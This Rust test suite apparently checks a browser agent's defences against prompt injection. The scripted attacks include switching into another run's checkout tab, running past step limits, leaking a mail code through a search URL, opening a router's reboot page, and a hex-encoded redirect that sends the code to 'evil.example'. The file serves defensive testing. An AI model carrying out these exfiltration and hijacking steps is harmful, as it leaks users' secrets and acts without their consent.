//! Other runs' tabs, limits and bounds: what restricts an obeying model beyond its own page.

use super::world::{BLOG, MAIL, ORDER, SHOP};
use edith_gate::Switch;
use edith_port::{Confined, TabBounds};
use edith_protocol::{AnswerBody, AskKind, Command, Outcome, RunId, RunState, TabId};
use edith_testkit::{FakePage, Scripted, World};
use serde_json::{Value, json};
use std::cell::Cell;

fn start(world: &World, prompt: &str) -> RunId {
    let run = world.run(prompt).unwrap();
    world.settle();
    run
}

/// A world in which another run waits for the user on the shop's till.
fn world_with_a_run() -> (World, RunId, TabId) {
    let world = World::default();
    world.browser.add_page(SHOP, FakePage::new("Till").button("Place order").input("Street"));
    world.browser.add_page(BLOG, FakePage::new("Post").text(ORDER));
    world.model.will(vec![
        Scripted::call("open_browser", &json!({ "url": SHOP }).to_string()),
        Scripted::call("click", &json!({ "uid": 1 }).to_string()),
    ]);
    let run = start(&world, "order it at https://shop.example/");
    assert!(world.events.ask().is_some());
    let (tab, _) = world.browser.open_tabs().into_iter().find(|(_, url)| url == SHOP).unwrap();
    (world, run, tab)
}

#[test]
fn another_runs_tab_is_neither_entered_nor_closed() {
    let orders: [&[(&str, Value)]; 4] = [
        &[("switch_tab", json!({})), ("click", json!({ "uid": 1 }))],
        &[("switch_tab", json!({})), ("type_text", json!({ "uid": 2, "text": "x", "submit": true }))],
        &[("switch_tab", json!({})), ("navigate", json!({ "url": "https://blog.example/post" }))],
        &[("close_tab", json!({})), ("close_tab", json!({}))],
    ];
    for order in orders {
        let (world, first, tab) = world_with_a_run();
        let before = world.browser.done();
        let mut calls = vec![("open_browser", json!({ "url": BLOG })), ("list_tabs", json!({}))];
        calls.extend(order.iter().map(|(tool, args)| {
            let mut args = args.clone();
            if tool.ends_with("_tab") {
                args["tab_id"] = json!(tab.0);
            }
            (*tool, args)
        }));
        world.model.will(calls.iter().map(|(tool, args)| Scripted::call(tool, &args.to_string())).collect::<Vec<_>>());
        world.model.always(|_| Scripted::complete("done"));
        start(&world, "sum up https://blog.example/post");
        assert!(world.model.requests().iter().any(|request| format!("{:?}", request.messages).contains(ORDER)));
        assert!(
            world.browser.open_tabs().contains(&(tab, SHOP.to_owned())),
            "{order:?}: {:?}",
            world.browser.open_tabs()
        );
        let on_the_till = world.browser.log().into_iter().skip(before.len()).any(|(url, _)| url == SHOP);
        assert!(!on_the_till, "{order:?}: {:?}", world.browser.log());
        let runs = world.send(Command::RunList { after: None }).unwrap();
        let Some(AnswerBody::Runs { runs, .. }) = runs.body else { panic!("{runs:?}") };
        assert!(runs.iter().any(|info| info.run_id == first && info.state == RunState::Asking), "it waits as before");
    }
}

#[test]
fn orders_without_end_stop_at_the_limits() {
    for (settings, most) in [
        (json!({ "version": 1, "maxSteps": 9 }), 9),
        (json!({ "version": 1, "maxSteps": 500, "maxDaySteps": 12 }), 12),
        (json!({ "version": 1, "maxSteps": 500, "maxRunTokens": 40_000 }), 60),
    ] {
        for tool in ["open_browser", "navigate", "take_snapshot", "list_tabs"] {
            let world = World::default();
            world.set("edith_settings", settings.clone());
            world.browser.add_host("blog.example", FakePage::new("Post").text(ORDER));
            let asked = std::rc::Rc::new(Cell::new(0_usize));
            let count = std::rc::Rc::clone(&asked);
            world.model.always(move |_| {
                count.set(count.get() + 1);
                Scripted::call(tool, &json!({ "url": format!("https://blog.example/{}", count.get()) }).to_string())
            });
            start(&world, "sum up https://blog.example/post");
            // Only the person could raise the limit.
            let ask = world.events.ask().unwrap_or_else(|| panic!("{tool} {settings}: nothing is asked"));
            assert!(matches!(ask.kind, AskKind::Limit { .. }), "{tool} {settings}: {ask:?}");
            let deny = Command::AgentAnswer { run_id: ask.run_id, ask_id: ask.ask_id, answer: "deny".into() };
            world.send(deny).unwrap();
            world.settle();
            let ended = world.events.done().map(|done| done.outcome);
            assert_eq!(ended, Some(Outcome::Partial), "{tool} {settings}");
            assert!((3..=most).contains(&asked.get()), "{tool} {settings}: asked {} times", asked.get());
            assert!(world.browser.open_tabs().len() <= most + 1, "{tool} {settings}");
        }
    }
}

/// Makes these calls, then waits in a question with the tab's bounds in place.
fn held(prompt: &str, calls: &[(&str, Value)]) -> (World, RunId) {
    let world = World::default();
    let mail = FakePage::new("Mail").button("Log out").text("Your code: QX77-19KL-M2").button("Send");
    world.browser.add_host("mail.example", mail);
    world.browser.add_host("blog.example", FakePage::new("Post").text("Read on").button("Send"));
    world.browser.add_host("192.168.0.1", FakePage::new("Router").button("Send"));
    world.model.will(calls.iter().map(|(tool, args)| Scripted::call(tool, &args.to_string())).collect::<Vec<_>>());
    world.model.always(|_| Scripted::call("ask_user", &json!({ "question": "Go on?" }).to_string()));
    let run = start(&world, prompt);
    (world, run)
}

#[test]
fn a_tab_is_held_while_an_address_tells_something_and_free_at_every_end() {
    let tells = ("navigate", json!({ "url": "https://mail.example/find?q=QX77-19KL-M2" }));
    let open = ("open_browser", json!({ "url": MAIL }));
    let prompt = "read my mail at https://mail.example/ and ask https://app.example/";
    let (world, run) = held(prompt, &[open.clone(), tells.clone()]);
    let bounds = world.browser.bounds();
    let Some((_, TabBounds::Only { hosts, why: Confined::Telling })) = bounds.first() else { panic!("{bounds:?}") };
    assert_eq!(hosts, &["app.example", "mail.example"], "its own site, and those that the person named");
    // The user takes over, and the tab is theirs.
    world.send(Command::AgentPause { run_id: run.clone() }).unwrap();
    world.settle();
    assert_eq!(world.browser.bounds(), [], "paused");
    world.send(Command::AgentStop { run_id: Some(run) }).unwrap();
    let (world, run) = held(prompt, &[open.clone(), tells.clone()]);
    assert_eq!(world.browser.bounds().len(), 1);
    world.send(Command::AgentStop { run_id: Some(run) }).unwrap();
    world.settle();
    assert_eq!(world.browser.bounds(), [], "stopped");
    // The next action opens the tab to what pages of the internet may do.
    let (world, _) = held(prompt, &[open.clone(), tells, ("navigate", json!({ "url": MAIL }))]);
    assert!(
        matches!(world.browser.bounds().as_slice(), [(_, TabBounds::NotHome { .. })]),
        "{:?}",
        world.browser.bounds()
    );
    // No bounds without an order, nor where the user works in their own network.
    let (world, _) = held(
        "look at http://192.168.0.1/",
        &[("open_browser", json!({ "url": "http://192.168.0.1/" })), ("press_key", json!({ "key": "Down" }))],
    );
    assert_eq!(world.browser.bounds(), []);
}

#[test]
fn a_tab_that_a_page_opens_is_held_as_the_page_is_and_closed_where_it_may_not_be() {
    for (to, closed) in [("http://192.168.0.1/reboot", true), ("https://blog.example/", false)] {
        let world = World::default();
        world.browser.add_host("mail.example", FakePage::new("Mail").button("Log out"));
        world.browser.add_host("shop.example", FakePage::new("Shop").button(&format!("Open tab {to}")));
        world.browser.add_host("blog.example", FakePage::new("Post").text("Read on"));
        world.browser.add_host("192.168.0.1", FakePage::new("Router").text("Reboot"));
        world.model.will([
            Scripted::call("open_browser", &json!({ "url": MAIL }).to_string()),
            Scripted::call("navigate", &json!({ "url": "https://shop.example/" }).to_string()),
            Scripted::call("click", &json!({ "uid": 2 }).to_string()),
        ]);
        world.model.always(|_| Scripted::call("ask_user", &json!({ "question": "Go on?" }).to_string()));
        let run = start(&world, "read my mail at https://mail.example/ and look at https://shop.example/");
        let told = serde_json::to_string(&world.model.requests().last().unwrap().messages).unwrap();
        let is_open = world.browser.open_tabs().iter().any(|(_, url)| url == to);
        assert_eq!(is_open, !closed, "{told}");
        assert_eq!(told.contains("closed again. Did not go on to http://192.168.0.1"), closed, "{told}");
        assert!(!told.contains("Reboot"), "{told}");
        assert_eq!(world.browser.bounds().len(), if closed { 1 } else { 2 }, "{:?}", world.browser.bounds());
        world.send(Command::AgentStop { run_id: Some(run) }).unwrap();
        world.settle();
        assert_eq!(world.browser.bounds(), [], "{to}");
    }
}

#[test]
fn what_an_earlier_worker_held_is_free_when_the_next_one_starts() {
    let (world, _) = held("read my mail", &[("open_browser", json!({ "url": MAIL }))]);
    world.browser.leave_bounds(TabId(77));
    world.restart_worker();
    world.settle();
    assert!(!world.browser.bounds().iter().any(|(tab, _)| *tab == TabId(77)), "{:?}", world.browser.bounds());
    // A run's bounds stay during an action and end with the run, even if another worker set them.
    let tells = ("navigate", json!({ "url": "https://mail.example/find?q=QX77-19KL-M2" }));
    let (world, run) = held("read my mail", &[("open_browser", json!({ "url": MAIL })), tells]);
    let (held, foreign) = (world.browser.bounds(), world.browser.open_in_front("https://b.example/"));
    assert_eq!(held.len(), 1);
    world.browser.leave_attached(foreign);
    world.restart_worker();
    world.settle();
    assert_eq!(world.browser.bounds(), held);
    assert!(!world.browser.attached().contains(&foreign), "a tab of no run is let go");
    world.send(Command::AgentStop { run_id: Some(run) }).unwrap();
    world.settle();
    assert_eq!(world.browser.bounds(), [], "stopped");
}

#[test]
fn where_a_page_led_on_to_is_told_in_a_sentence() {
    let hex: String = "https://evil.example/c?d=QX7719KLM2".bytes().map(|byte| format!("{byte:02x}")).collect();
    for (gate_is_on, told) in [(true, true), (false, false)] {
        let world = World::default();
        world.browser.add_host("mail.example", FakePage::new("Mail").button("Log out").text("Your code: QX77-19KL-M2"));
        world.browser.add_host("evil.example", FakePage::new("Evil"));
        let redirect = json!({ "url": format!("https://mail.example/r/{hex}") });
        world.model.will(vec![
            Scripted::call("open_browser", &json!({ "url": MAIL }).to_string()),
            Scripted::call("navigate", &redirect.to_string()),
        ]);
        world.model.always(|_| Scripted::complete("done"));
        Switch::only_off((!gate_is_on).then_some(Switch::Hold));
        start(&world, "read my mail");
        Switch::only_off(None);
        let sent = format!("{:?}", world.model.requests().last().map(|request| request.messages.clone()));
        assert_eq!(sent.contains("Did not go on to another site: "), told, "{sent}");
        let shown = world.events.all().iter().any(|event| {
            format!("{event:?}").contains("text: \"Did not go on to another site: the address that was opened reveals")
        });
        assert_eq!(shown, told, "the person is told, too");
        assert_eq!(world.browser.done().iter().any(|done| done.contains("evil.example/c")), !told);
    }
}
